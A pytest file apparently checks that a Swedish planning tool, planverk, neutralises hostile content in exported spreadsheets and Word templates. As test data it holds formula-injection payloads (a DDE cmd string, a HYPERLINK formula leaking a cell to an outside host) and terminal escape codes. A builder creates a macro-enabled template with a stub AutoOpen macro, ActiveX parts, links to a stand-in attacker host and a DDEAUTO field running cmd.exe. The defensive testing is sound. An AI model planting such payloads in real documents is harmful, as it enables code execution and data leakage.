"""No published file carries formulas that came from text, macros or external links.

`status -f xlsx` is read back with openpyxl and with LibreOffice Calc; documents made with a
hostile dokumentmall are opened as zip packages and every relationship and part is looked
at.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from tests.conftest import ROOT, cli
from tests.realclients import need

HP = "plans/handlingsplaner/ledningsgruppen-2025.yaml"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Klicka här")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tTabb först",
    "\rVagnretur först",
]


def _hostile_plan(root: Path) -> None:
    """The minimal handlingsplan with a formula in the action's text and comment."""
    path = root / HP
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        "text: Stärk samverkan mellan nätverken.", f"text: {_quoted(PAYLOADS[0])}", 1
    )
    text += f"    kommentar: {_quoted(PAYLOADS[1])}\n"
    for number, payload in enumerate(PAYLOADS[2:], 2):
        text += (
            f"  - id: åtgärd-{number}\n"
            f"    text: {_quoted(payload)}\n"
            "    aktivitet: stödja-nära-vård\n"
            "    ansvar: [ledningsgruppen]\n"
            "    status: gul\n"
            f"    kommentar: {_quoted(payload)}\n"
        )
    path.write_text(text, encoding="utf-8")


def _quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\t", "\\t").replace("\r", "\\r") + '"'


def _workbook(minimal: Path) -> Path:
    _hostile_plan(minimal)
    run = cli("status", "2025", "--datum", "2025-06-01", "-f", "xlsx", "-o", "build/status.xlsx")
    assert run.exit_code == 0, run.stdout + run.stderr
    return minimal / "build" / "status.xlsx"


def test_plan_text_is_never_a_formula_openpyxl(minimal: Path) -> None:
    from openpyxl import load_workbook  # type: ignore[import-untyped]

    book = load_workbook(_workbook(minimal))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        cell = texts[payload]
        assert cell.data_type == "s", payload
        assert cell.quotePrefix, payload  # stays text when edited in Excel or Calc


def test_plan_text_is_never_a_formula_libreoffice(minimal: Path, tmp_path: Path) -> None:
    soffice = need("soffice", "libreoffice")
    workbook = _workbook(minimal)
    out = tmp_path / "csv"
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'lo-profil').as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1",
            "--outdir",
            str(out),
            str(workbook),
        ],
        capture_output=True,
        timeout=180,
        check=False,
        env=dict(os.environ, HOME=str(tmp_path)),
    )
    assert done.returncode == 0, done.stderr
    (sheet,) = out.glob("status*.csv")  # the first sheet, Åtgärder
    rows = list(csv.reader(sheet.open(encoding="utf-8", newline="")))
    cells = {cell for row in rows for cell in row}
    for payload in PAYLOADS:
        assert payload in cells, (payload, rows)
    assert "Klicka här" not in cells  # the formula was not evaluated
    assert "2" not in {row[2] for row in rows[1:]}  # "+1+1" stayed text


@pytest.mark.parametrize("fmt", ["text", "md"])
def test_control_characters_from_a_plan_never_reach_the_terminal(minimal: Path, fmt: str) -> None:
    path = minimal / HP
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("nätverken.", 'nätverken.\\e[2J\\a"', 1).replace(
            "text: Stärk", 'text: "Stärk', 1
        ),
        encoding="utf-8",
    )
    run = cli("status", "2025", "--datum", "2025-06-01", "-f", fmt)
    assert run.exit_code == 0, run.stdout + run.stderr
    assert "\x1b" not in run.stdout and "\x07" not in run.stdout
    assert "\u241b[2J\u2407" in run.stdout


# --- a hostile dokumentmall -----------------------------------------------------------------

CT = "[Content_Types].xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
EVIL = "https://angripare.example.invalid"


def _rels(*relations: tuple[str, str, str, bool]) -> str:
    body = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in relations
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    )


def _hostile_dokumentmall(source: bytes, *, dde: bool = False) -> bytes:
    """planverk's own dokumentmall made macro-enabled (.dotm) and linked to the outside."""
    with zipfile.ZipFile(io.BytesIO(source)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    types = parts[CT].decode("utf-8")
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    extra_types = (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/vbaData.xml" '
        'ContentType="application/vnd.ms-word.vbaData+xml"/>'
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>'
        '<Override PartName="/word/activeX/activeX1.bin" '
        'ContentType="application/vnd.ms-office.activeX"/>'
    )
    parts[CT] = types.replace("</Types>", extra_types + "</Types>").encode("utf-8")
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = AutoOpen Shell calc"
    parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="x"/>'
    parts["word/_rels/vbaProject.bin.rels"] = _rels(
        ("rId1", f"{MS_REL}/wordVbaData", "vbaData.xml", False)
    ).encode()
    parts["word/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
        b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" r:id="rId1" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
    )
    parts["word/activeX/activeX1.bin"] = b"\x00activex"
    parts["word/activeX/_rels/activeX1.xml.rels"] = _rels(
        ("rId1", f"{MS_REL}/activeXControlBinary", "activeX1.bin", False)
    ).encode()
    document_rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    document_rels = document_rels.replace(
        "</Relationships>",
        _rels(
            ("rIdVba", f"{MS_REL}/vbaProject", "vbaProject.bin", False),
            ("rIdAx", f"{REL}/control", "activeX/activeX1.xml", False),
            ("rIdImg", f"{REL}/image", f"{EVIL}/spårning.png", True),
            ("rIdOle", f"{REL}/oleObject", "file://server/dela/kalkyl.xlsx", True),
            ("rIdUnc", f"{REL}/hyperlink", "file://angripare/dela/x", True),
            ("rIdWeb", f"{REL}/hyperlink", "https://www.example.se/om-oss", True),
        ).split(">", 2)[2],
    )
    parts["word/_rels/document.xml.rels"] = document_rels.encode("utf-8")
    settings = parts["word/settings.xml"].decode("utf-8")
    start = settings.index(">", settings.index("<w:settings")) + 1
    settings = (
        settings[:start]
        + '<w:attachedTemplate r:id="rIdMall"/><w:linkStyles/>'
        + '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        + '<w:dataSource r:id="rIdData"/></w:mailMerge>'
        + settings[start:]
    )
    parts["word/settings.xml"] = settings.encode("utf-8")
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("rIdMall", f"{REL}/attachedTemplate", f"{EVIL}/mall.dotm", True),
        ("rIdData", f"{REL}/mailMergeSource", "file:///C:/data/adresser.xlsx", True),
    ).encode()
    header = parts["word/header1.xml"].decode("utf-8")
    link = (
        '<w:p><w:hyperlink r:id="rIdHead"><w:r><w:t>Regionens webbplats</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )
    if dde:
        link += (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE'
            "</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            '"/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    parts["word/header1.xml"] = header.replace("</w:hdr>", link + "</w:hdr>").encode("utf-8")
    parts["word/_rels/header1.xml.rels"] = _rels(
        ("rIdHead", f"{REL}/hyperlink", "\\\\angripare\\dela\\spår.docx", True)
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, blob in parts.items():
            package.writestr(name, blob)
    return out.getvalue()


def _package_problems(data: bytes) -> list[str]:
    """Read the package as a zip, without planverk: every external relationship other than
    a web link, every macro, ActiveX or OLE part, and what refers to an attached template."""
    problems: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = package.namelist()
        for name in names:
            lowered = name.lower()
            if "vba" in lowered or "activex" in lowered or "oleobject" in lowered:
                problems.append(f"part {name}")
            if name.endswith(".rels"):
                for rel in ElementTree.fromstring(package.read(name)):
                    target = rel.get("Target", "")
                    if rel.get("TargetMode") == "External" and not target.startswith("https://"):
                        problems.append(f"{name}: {rel.get('Type')} -> {target}")
                    if any(w in rel.get("Type", "") for w in ("vba", "control", "attachedTem")):
                        problems.append(f"{name}: {rel.get('Type')}")
        types = package.read(CT).decode("utf-8")
        if "vbaProject" in types or "macroEnabled" in types or "activeX" in types:
            problems.append("content types name macros")
        settings = package.read("word/settings.xml").decode("utf-8")
        for element in ("attachedTemplate", "mailMerge", "linkStyles"):
            if f"w:{element}" in settings:
                problems.append(f"settings: {element}")
    return problems


def test_a_macro_template_with_outside_links_is_stripped_and_said(minimal: Path) -> None:
    from docx import Document

    shipped = (ROOT / "templates" / "dokumentmall.docx").read_bytes()
    hostile = _hostile_dokumentmall(shipped)
    assert len(_package_problems(hostile)) >= 10  # the test file is as hostile as meant
    (minimal / "mall.dotm").write_bytes(hostile)
    run = cli("render", "2025", "--dokumentmall", "mall.dotm", "-o", "build/ap.docx")
    assert run.exit_code == 0, run.stdout + run.stderr
    written = (minimal / "build" / "ap.docx").read_bytes()
    assert _package_problems(written) == []
    for words in (
        "PV016 varning: planverk tog bort makron (VBA-projekt) (word/vbaProject.bin) ur det "
        "publicerade dokumentet",
        "ActiveX-kontroller (word/activeX/activeX1.xml)",
        f"en kopplad dokumentmall som Word hämtar: {EVIL}/mall.dotm (word/settings.xml)",
        f"en bild som hämtas utifrån: {EVIL}/spårning.png (word/document.xml)",
        "ett länkat OLE-objekt: file://server/dela/kalkyl.xlsx",
        "en länk: \\\\angripare\\dela\\spår.docx (word/header1.xml)",
        "en dokumentkoppling till en extern datakälla (word/settings.xml)",
        "tips: Ta bort det ur dokumentmallen i Word",
    ):
        assert words in run.stderr, (words, run.stderr)
    assert "https://www.example.se/om-oss" not in run.stderr  # a web link stays
    document = Document(io.BytesIO(written))  # python-docx opens it
    header = document.sections[0].header
    assert "Regionens webbplats" in "".join(p.text for p in header.paragraphs)
    soffice = need("soffice", "libreoffice")  # and so does LibreOffice
    pdf = _libreoffice_pdf(soffice, minimal / "build" / "ap.docx", minimal / "lo")
    assert pdf.stat().st_size > 1000


def test_a_template_with_a_fetching_field_is_refused(minimal: Path) -> None:
    shipped = (ROOT / "templates" / "dokumentmall.docx").read_bytes()
    (minimal / "mall.docx").write_bytes(_hostile_dokumentmall(shipped, dde=True))
    run = cli("render", "2025", "--dokumentmall", "mall.docx", "-o", "build/ap.docx")
    assert run.exit_code == 2, run.stdout + run.stderr
    assert (
        "planverk: fel: mall.docx: fältet DDEAUTO i word/header1.xml hämtar innehåll utifrån "
        "när dokumentet öppnas; planverk använder inte en sådan mall"
    ) in run.stderr
    assert "tips: Ta bort fältet i Word (Alt+F9 visar fältkoderna)" in run.stderr
    assert not (minimal / "build").exists()


def test_the_project_dokumentmall_is_sanitised_too(minimal: Path) -> None:
    shipped = (ROOT / "templates" / "dokumentmall.docx").read_bytes()
    (minimal / "mall.dotm").write_bytes(_hostile_dokumentmall(shipped))
    project = minimal / "plans" / "planverk.yaml"
    project.write_text(
        project.read_text(encoding="utf-8") + "dokumentmall: mall.dotm\n", encoding="utf-8"
    )
    run = cli("render", "2025", "-f", "docx")
    assert run.exit_code == 0, run.stdout + run.stderr
    assert "PV016 varning" in run.stderr
    (written,) = (minimal / "build").glob("*.docx")
    assert _package_problems(written.read_bytes()) == []


def _libreoffice_pdf(soffice: str, docx: Path, work: Path) -> Path:
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(work / 'profil').as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            "pdf",
            "--outdir",
            str(work),
            str(docx),
        ],
        capture_output=True,
        timeout=180,
        check=False,
        env=dict(os.environ, HOME=str(work)),
    )
    assert done.returncode == 0, done.stderr
    return work / f"{docx.stem}.pdf"
